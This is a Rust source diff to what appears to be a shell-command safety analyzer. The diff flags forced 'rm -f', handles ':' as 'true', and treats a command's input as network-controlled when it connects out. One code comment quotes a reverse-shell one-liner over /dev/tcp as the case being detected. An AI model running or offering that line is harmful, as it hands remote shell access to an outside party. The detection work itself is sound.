@@ -7,7 +7,6 @@ use crate::classify::Purpose;
 use crate::doing::{Doing, Inner};
 use crate::effect::{Carries, Effect, Origin, Peer};
 use crate::engine::{At, Engine};
-use crate::flow::Flow;
 use crate::knowledge::{self, Action, Node, Role, Touch};
 use crate::normal::{self, Normal};
 use crate::options::{self, Line};
@@ -27,7 +26,6 @@ pub(crate) fn command<'a>(
     program: &Arg<'a>,
     rest: &[Arg<'a>],
     at: &At<'_, '_>,
-    worded: &Flow,
 ) -> Found<'a> {
     let mut doing = Doing::default();
     let Some(word) = program.text() else {
@@ -46,7 +44,9 @@ pub(crate) fn command<'a>(
         let normal = normal::plain(word, rest);
         return Found { name: word.to_owned(), normal, doing };
     };
-    let Some(node) = knowledge::program(name) else {
+    // A colon cannot be a header's name.
+    let known = if name == ":" { "true" } else { name };
+    let Some(node) = knowledge::program(known) else {
         if name.is_empty() {
             doing.unknown("a command without a name");
         } else {
@@ -54,7 +54,7 @@ pub(crate) fn command<'a>(
         }
         return Found { name: name.to_owned(), normal: normal::plain(name, rest), doing };
     };
-    let mut evaluation = Evaluation { engine, at, worded, name, cwds: at.cwds.clone(), doing };
+    let mut evaluation = Evaluation { engine, at, name, cwds: at.cwds.clone(), doing };
     let line = evaluation.read(node, rest);
     evaluation.judge(&line);
     let doing = evaluation.doing;
@@ -104,7 +104,6 @@ fn path_program(engine: &mut Engine<'_>, word: &str, at: &At<'_, '_>, doing: &mu
 pub(crate) struct Evaluation<'x, 'e, 's, 'p, 'a> {
     pub(crate) engine: &'x mut Engine<'e>,
     pub(crate) at: &'x At<'s, 'p>,
-    pub(crate) worded: &'x Flow,
     pub(crate) name: &'x str,
     /// Where this command's relative paths are measured from.
     pub(crate) cwds: Vec<Cow<'x, str>>,
@@ -136,6 +135,7 @@ impl<'a> Evaluation<'_, '_, '_, '_, 'a> {
                 _ => {}
             }
         }
+        self.doing.forced = self.name == "rm" && line.options.iter().any(|set| set.choice.canonical == "-f");
         for set in &line.options {
             if set.choice.actions.iter().any(|action| matches!(action, Action::Chdir)) {
                 self.chdir(set.value.as_ref());
@@ -264,15 +264,17 @@ impl<'a> Evaluation<'_, '_, '_, '_, 'a> {
             }
             return;
         }
-        let splits = line.operands.iter().position(|operand| matches!(operand, Arg::Hazy(hazy) if hazy.splits));
+        let splits =
+            line.operands.iter().position(|operand| matches!(operand, Arg::Hazy(hazy) if hazy.splits && !hazy.absent));
         for (place, operand) in line.operands.iter().enumerate() {
             let Some(slot) = options::slot_at(&roles.slots, &line.operands, place) else {
                 self.doing.unknown(format!("`{}` with more operands than expected", self.name));
                 return;
             };
             // Where a word before it may be any number of words, an operand may stand for any of the roles.
-            if splits.is_some_and(|first| first <= place) && roles.slots.len() > 1 {
-                for slot in &roles.slots {
+            let open = splits.filter(|first| *first <= place).map(|first| options::slots_from(&roles.slots, first));
+            if let Some(slots) = open.filter(|slots| slots.len() != 1) {
+                for slot in slots {
                     if is_runnable(slot.role) {
                         self.doing.unknown("words that are not known decide what runs");
                     } else {
@@ -314,7 +316,12 @@ impl<'a> Evaluation<'_, '_, '_, '_, 'a> {
         if self.doing.code_given {
             return;
         }
-        let input = self.at.context.input.clone();
+        let mut input = self.at.context.input.clone();
+        // `bash -i >& /dev/tcp/host/port 0>&1`: the other end types.
+        if self.at.context.extra.iter().any(|effect| matches!(effect, Effect::Connect(_))) {
+            input.network = true;
+            input.constant = None;
+        }
         match role {
             Role::Shell => match &input.constant {
                 Some(text) => {
